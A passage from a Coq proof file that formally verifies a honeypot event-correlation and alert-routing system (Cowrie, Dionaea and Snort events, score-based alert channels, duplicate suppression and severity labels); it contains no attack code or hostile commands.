  destruct stamps as [|x l]; [reflexivity|]. simpl.
  destruct (fold_min_spec l x) as [Hmin Hleast].
  destruct (fold_max_spec l x) as [Hmax Hgreatest].
  split; [exact Hmin|]. split; [exact Hmax|]. auto.
Qed.

(** X14: the targeted services are the non-empty values of the key
    protocol in the shell-honeypot events and of the key connection_type
    in the malware-honeypot events, each listed once; the alerts of the
    intrusion detector name no service. *)
Theorem targeted_services_named es_search utcnow isoformat ip range :
  let result := correlate_by_ip es_search utcnow isoformat ip range in
  NoDup (targeted_services (summary result))
  ∧ ∀ s, s ∈ targeted_services (summary result)
         ↔ s ≠ ""
           ∧ ((∃ e, e ∈ cowrie (events result) ∧ protocol e = Some s)
              ∨ (∃ e, e ∈ dionaea (events result)
                   ∧ connection_type e = Some s)).
Proof.
  intros result.
  destruct (correlate_by_ip_summary es_search utcnow isoformat ip range)
    as (_ & _ & Hservices & _).
  fold result in Hservices. rewrite Hservices.
  split; [apply NoDup_elements|].
  intros s. rewrite elem_of_elements, elem_of_union. unfold services_of.
  rewrite !elem_of_list_to_set, !list_elem_of_omap.
  split.
  - intros [(e & He & H) | (e & He & H)];
      apply truthy_value in H as [H Hs]; eauto.
  - intros (Hs & [(e & He & H) | (e & He & H)]);
      [left | right]; exists e; (split; [exact He|]);
      now apply truthy_value.
Qed.

(** *** The event store fails *)

Lemma sources_of_all : ∀ hs,
  Forall (fun h => is_Some (_source h)) hs →
  ∃ evs, sources_of hs = Ok evs ∧ Some <$> evs = _source <$> hs.
Proof.
  induction hs as [|h rest IH]; intros Hall.
  - exists []. split; reflexivity.
  - apply Forall_cons in Hall as [[e He] Hrest].
    destruct (IH Hrest) as (evs & Hevs & Heq).
    exists (e :: evs). split.
    + simpl. rewrite He, Hevs. reflexivity.
    + rewrite !fmap_cons, He, Heq. reflexivity.
Qed.

Lemma sources_of_broken : ∀ hs,
  Exists (fun h => _source h = None) hs → sources_of hs = Raise KeyError.
Proof.
  induction hs as [|h rest IH]; intros Hbroken.
  - now apply Exists_nil in Hbroken.
  - simpl. destruct (_source h) as [e|] eqn:He; [|reflexivity].
    apply Exists_cons in Hbroken as [Hh | Hrest]; [congruence|].
    now rewrite (IH Hrest).
Qed.

(** X15: a per-source query returns all the hits of the response or
    none of them: when every hit has a [_source] the events come back in
    the order of the hits, and when a single hit lacks it the whole
    answer is the empty list. The three queries differ in the index and
    the field only. *)
Theorem source_query_all_or_nothing
    (es_search : SearchRequest → result SearchResponse)
    (isoformat : datetime → string) (ip : string)
    (start_time end_time : datetime)
    (query : string → datetime → datetime → list Event)
    (idx field : string) (response : SearchResponse) (hs : list Hit) :
  (query, idx, field)
    ∈ [(_query_cowrie_by_ip es_search isoformat,
        "cowrie-*", "src_ip.keyword");
       (_query_dionaea_by_ip es_search isoformat,
        "dionaea-*", "remote_host.keyword");
       (_query_snort_by_ip es_search isoformat,
        "snort-*", "src_ip.keyword")] →
  es_search (ip_query isoformat idx field ip start_time end_time)
    = Ok response →
  hits response = Some hs →
  (Forall (fun h => is_Some (_source h)) hs →
   Some <$> query ip start_time end_time = _source <$> hs)
  ∧ (Exists (fun h => _source h = None) hs →
     query ip start_time end_time = []).
Proof.
  intros Hquery Hsearch Hhits.
  assert (Hbody : query ip start_time end_time
                  = try_except (sources_of hs) (fun _ => [])).
  { repeat (apply elem_of_cons in Hquery as [[= -> -> ->] | Hquery];
            [unfold _query_cowrie_by_ip, _query_dionaea_by_ip,
               _query_snort_by_ip, search_events, hit_sources;
             rewrite Hsearch; cbn [rbind]; now rewrite Hhits|]).
    now apply elem_of_nil in Hquery. }
  rewrite Hbody. split.
  - intros Hall. destruct (sources_of_all _ Hall) as (evs & -> & Heq).
    exact Heq.
  - intros Hbroken. now rewrite (sources_of_broken _ Hbroken).
Qed.

(** X15 on a response whose second hit has no [_source]: the first hit
    is lost as well. *)
Lemma source_query_all_or_nothing_witness :
  _query_cowrie_by_ip MoreSamples.store_broken_hit Samples.isoformat
    "203.0.113.7" Samples.noon Samples.noon = [].
Proof.
  eapply (source_query_all_or_nothing MoreSamples.store_broken_hit
            Samples.isoformat "203.0.113.7" Samples.noon Samples.noon
            _ "cowrie-*" "src_ip.keyword").
  - apply list_elem_of_here.
  - reflexivity.
  - reflexivity.
  - apply Exists_cons_tl, Exists_cons_hd. reflexivity.
Defined.

(** X16: with the event store out of reach the correlation of an
    address still returns, empty: no events, no first or last sighting,
    no services and no phases; the profile built from it is not
    persistent, not automated, low and monitor. The detection of
    coordinated attacks has no handler and raises the exception of the
    store. *)
Theorem store_out_of_reach
    (es_search : SearchRequest → result SearchResponse)
    (utcnow : datetime) (isoformat : datetime → string)
    (fromisoformat : string → result datetime)
    (str_timedelta : Z → string)
    (float_sum : list Float64.float → Float64.float)
    (float_pow : Float64.float → Z → Float64.float)
    (ip : string) (range : option (datetime * datetime)) (window : Z) :
  (∀ request, raises (es_search request)) →
  let result := correlate_by_ip es_search utcnow isoformat ip range in
  events result = {| cowrie := []; dionaea := []; snort := [] |}
  ∧ summary result
    = {| total_events := 0; cowrie_events := 0; dionaea_events := 0;
         snort_alerts := 0; first_seen := None; last_seen := None;
         targeted_services := []; attack_phases := [] |}
  ∧ (∃ e, es_search (recent_sources_query utcnow isoformat window)
            = Raise e
          ∧ detect_coordinated_attacks es_search utcnow isoformat
                                       str_timedelta window = Raise e)
  ∧ ∃ profile,
      build_attacker_profile es_search utcnow isoformat fromisoformat
                             float_sum float_pow ip
      = Ok profile
      ∧ is_persistent (intelligence profile) = false
      ∧ is_automated (intelligence profile) = false
      ∧ behavior_targeted_services (behavior profile) = []
      ∧ risk_assessment profile
        = {| threat_level := "low"; recommended_action := "monitor" |}.
Proof.
  intros Hdown result.
  assert (Hquery : ∀ idx field a s e,
            try_except (search_events es_search isoformat idx field a s e)
                       (fun _ => []) = []).
  { intros idx field a s e. unfold search_events.
    destruct (Hdown (ip_query isoformat idx field a s e)) as [x ->].
    reflexivity. }
  assert (Hempty : ∀ r,
            correlate_by_ip es_search utcnow isoformat ip r
            = {| ip_address := ip;
                 time_range :=
                   {| range_start :=
                        isoformat (effective_range utcnow r).1;
                      range_end :=
                        isoformat (effective_range utcnow r).2 |};
                 summary :=
                   {| total_events := 0; cowrie_events := 0;
                      dionaea_events := 0; snort_alerts := 0;
                      first_seen := None; last_seen := None;
                      targeted_services := []; attack_phases := [] |};
                 events := {| cowrie := []; dionaea := []; snort := [] |} |}).
  { intros r. unfold correlate_by_ip.
    destruct (effective_range utcnow r) as [s e].
    unfold _query_cowrie_by_ip, _query_dionaea_by_ip, _query_snort_by_ip.
    rewrite !Hquery. reflexivity. }
  split; [unfold result; now rewrite Hempty|].
  split; [unfold result; now rewrite Hempty|].
  split.
  { unfold detect_coordinated_attacks.
    destruct (Hdown (recent_sources_query utcnow isoformat window))
      as [x Hx].
    exists x. now rewrite Hx. }
  unfold build_attacker_profile, profile_correlation. rewrite Hempty.
  eexists. split; [reflexivity|]. repeat split.
Qed.

(** X16 on a store that refuses every connection. *)
Lemma store_out_of_reach_witness :
  total_events
    (summary (correlate_by_ip MoreSamples.store_down Samples.noon
                Samples.isoformat "203.0.113.7" None)) = 0%nat
  ∧ detect_coordinated_attacks MoreSamples.store_down Samples.noon
      Samples.isoformat Samples.str_timedelta default_window
    = Raise ConnectionError.
Proof.
  destruct (store_out_of_reach MoreSamples.store_down Samples.noon
              Samples.isoformat Samples.fromisoformat Samples.str_timedelta
              Samples.float_sum Samples.float_pow
              "203.0.113.7" None default_window)
    as (_ & Hsummary & (e & Hsearch & Hdetect) & _).
  - intros request. exists ConnectionError. reflexivity.
  - split; [now rewrite Hsummary|].
    rewrite Hdetect. injection Hsearch as <-. reflexivity.
Defined.

End CorrelationExtras.

(** ** Alert manager *)

Module AlertingExtras.

Import Alerting.
Local Open Scope Z_scope.

(** X18: an event that is not a duplicate is routed by its score: from
    90 on to e-mail, Telegram and Slack, from 76 to 89 to e-mail and
    Telegram, from 51 to 75 to e-mail only, below 51 to no channel. Every
    message sent carries the score and the severity label that
    [_calculate_severity] gives the score, and the key of the event is
    marked whether or not anything was sent. *)
Theorem alerts_routed_by_score (isoformat : datetime → string)
    (t_check t_format t_mark : Z) (event : AlertEvent)
    (recent_alerts : gmap string Z) :
  _is_duplicate recent_alerts t_check (alert_key_of event) = false →
  let score := default 0 (ev_threat_score event) in
  let outcome :=
    process_event isoformat t_check t_format t_mark event recent_alerts in
  channel <$> outcome.1
  = (if 90 <=? score then [Email; Telegram; Slack]
     else if 76 <=? score then [Email; Telegram]
     else if 51 <=? score then [Email]
     else [])
  ∧ Forall (fun sent =>
              payload sent
              = _format_alert_message isoformat t_format event
                  (_calculate_severity score)) outcome.1
  ∧ outcome.2 = <[alert_key_of event := t_mark]> recent_alerts.
Proof.
  intros Hnew score outcome. unfold outcome, process_event.
  rewrite Hnew. fold score. cbn [fst snd].
  split; [|split; [|reflexivity]].
  - repeat case_match; reflexivity.
  - unfold _calculate_severity.
    destruct (Z.leb_spec 90 score) as [H90 | H90].
    { rewrite (proj2 (Z.leb_le 76 score)) by lia.
      repeat constructor. }
    destruct (Z.leb_spec 76 score) as [H76 | H76]; [repeat constructor|].
    destruct (Z.leb_spec 51 score) as [H51 | H51]; repeat constructor.
Qed.

(** X18 on a login that scores 95 and was not seen before. *)
Lemma alerts_routed_by_score_witness :
  channel <$> (process_event Samples.isoformat 0 0 0
                 (MoreSamples.alert_of 95) ∅).1
  = [Email; Telegram; Slack].
Proof.
  apply (alerts_routed_by_score Samples.isoformat 0 0 0
           (MoreSamples.alert_of 95) ∅).
  reflexivity.
Defined.

(** X19: once an event was processed, an event with the same alert key
    is a duplicate exactly while the clock is less than five minutes
    past the mark, and a duplicate is dropped whatever its score: nothing
    is sent and the mark is not renewed. *)
Theorem repeated_alert_is_suppressed (isoformat : datetime → string)
    (t_check t_format t_mark t_check' t_format' t_mark' : Z)
    (first second : AlertEvent) (recent_alerts : gmap string Z) :
  _is_duplicate recent_alerts t_check (alert_key_of first) = false →
  alert_key_of second = alert_key_of first →
  let marked :=
    (process_event isoformat t_check t_format t_mark first recent_alerts).2 in
  _is_duplicate marked t_check' (alert_key_of second)
  = (t_check' - t_mark <? alert_window)
  ∧ (t_check' - t_mark < alert_window →
     process_event isoformat t_check' t_format' t_mark' second marked
     = ([], marked)).
Proof.
  intros Hnew Hkey marked.
  assert (Hmarked : marked = <[alert_key_of first := t_mark]> recent_alerts).
  { unfold marked, process_event. now rewrite Hnew. }
  assert (Hdup : _is_duplicate marked t_check' (alert_key_of second)
                 = (t_check' - t_mark <? alert_window)).
  { unfold _is_duplicate. now rewrite Hmarked, Hkey, lookup_insert_eq. }
  split; [exact Hdup|].
  intros Hsoon. unfold process_event. rewrite Hdup.
  now rewrite (proj2 (Z.ltb_lt _ _) Hsoon).
Qed.

(** X19 on a login that scores 10, so that nothing is sent, followed
    one minute later by the same login scoring 95: nothing is sent
    either. *)
Lemma repeated_alert_is_suppressed_witness :
  let marked :=
    (process_event Samples.isoformat 0 0 0 (MoreSamples.alert_of 10) ∅).2 in
  (process_event Samples.isoformat 0 0 0 (MoreSamples.alert_of 10) ∅).1 = []
  ∧ process_event Samples.isoformat 60000000 60000000 60000000
      (MoreSamples.alert_of 95) marked
    = ([], marked).
Proof.
  intros marked. split; [reflexivity|].
  apply (repeated_alert_is_suppressed Samples.isoformat 0 0 0
           60000000 60000000 60000000
           (MoreSamples.alert_of 10) (MoreSamples.alert_of 95) ∅).
  - reflexivity.
  - reflexivity.
  - reflexivity.
Defined.

(** X20: the clean-up keeps exactly the marks younger than five
    minutes, and as long as the clock does not run backwards it changes
    no answer of the duplicate check. *)
Theorem cleanup_keeps_duplicate_answers (now later : Z)
    (recent_alerts : gmap string Z) (alert_key : string) :
  now ≤ later →
  _is_duplicate (cleanup_old_alerts now recent_alerts) later alert_key
  = _is_duplicate recent_alerts later alert_key
  ∧ ∀ k t, cleanup_old_alerts now recent_alerts !! k = Some t
           ↔ recent_alerts !! k = Some t ∧ now - t < alert_window.
Proof.
  intros Hclock.
  assert (Hkept : ∀ k t, cleanup_old_alerts now recent_alerts !! k = Some t
                         ↔ recent_alerts !! k = Some t
                           ∧ now - t < alert_window).
  { intros k t. unfold cleanup_old_alerts.
    rewrite map_lookup_filter_Some. simpl. split; intros [H1 H2]; split;
      try exact H1; lia. }
  split; [|exact Hkept].
  unfold _is_duplicate.
  destruct (recent_alerts !! alert_key) as [t|] eqn:Hold.
  - destruct (decide (now - t < alert_window)) as [Hyoung | Hstale].
    + now rewrite (proj2 (Hkept alert_key t) (conj Hold Hyoung)).
    + destruct (cleanup_old_alerts now recent_alerts !! alert_key)
        as [t'|] eqn:Hnew.
      * apply Hkept in Hnew as [Hnew _]. congruence.
      * symmetry. apply Z.ltb_ge. lia.
  - destruct (cleanup_old_alerts now recent_alerts !! alert_key)
      as [t'|] eqn:Hnew; [|reflexivity].
    apply Hkept in Hnew as [Hnew _]. congruence.
Qed.

(** X20 on a mark that is ten minutes old: it is removed, and it made
    no duplicate any more. *)
Lemma cleanup_keeps_duplicate_answers_witness :
  cleanup_old_alerts 600000000 {[ "203.0.113.9_None" := 0 ]} = ∅
  ∧ _is_duplicate {[ "203.0.113.9_None" := 0 ]} 600000000
      "203.0.113.9_None" = false.
Proof.
  destruct (cleanup_keeps_duplicate_answers 600000000 600000000
              {[ "203.0.113.9_None" := 0 ]} "203.0.113.9_None")
    as [Hsame Hkept]; [lia|].
  split; [|reflexivity].
  apply map_eq. intros k. rewrite lookup_empty.
  apply eq_None_not_Some. intros [t Ht].
  apply Hkept in Ht as [Ht Hyoung].
  apply lookup_singleton_Some in Ht as [_ <-].
  vm_compute in Hyoung. discriminate.
Defined.

(** X21: the severity label of the alert manager is the label of the
    scorer, in capitals, only for scores from 90 on: below 90 the alert
    manager is one step lower (HIGH where the scorer says critical,
    MEDIUM for high, LOW for medium, INFO for low). *)
Theorem alert_label_matches_scorer_from_90 (score : Z) :
  (Text.lower (_calculate_severity score) = Scoring._score_to_severity score
   ↔ 90 ≤ score)
  ∧ (76 ≤ score < 90 →
     _calculate_severity score = "HIGH"
     ∧ Scoring._score_to_severity score = "critical")
  ∧ (51 ≤ score < 76 →
     _calculate_severity score = "MEDIUM"
     ∧ Scoring._score_to_severity score = "high")
  ∧ (26 ≤ score < 51 →
     _calculate_severity score = "LOW"
     ∧ Scoring._score_to_severity score = "medium")
  ∧ (score < 26 →
     _calculate_severity score = "INFO"
     ∧ Scoring._score_to_severity score = "low").
Proof.
  unfold _calculate_severity, Scoring._score_to_severity.
  destruct (Z.leb_spec 90 score) as [H90 | H90];
    destruct (Z.leb_spec 76 score) as [H76 | H76];
    destruct (Z.leb_spec 51 score) as [H51 | H51];
    destruct (Z.leb_spec 26 score) as [H26 | H26];
    try lia;
    (split; [split; [try (vm_compute; discriminate); intros _; lia
                    | try lia; intros _; vm_compute; reflexivity]|]);
    repeat split; try reflexivity; lia.
Qed.

End AlertingExtras.
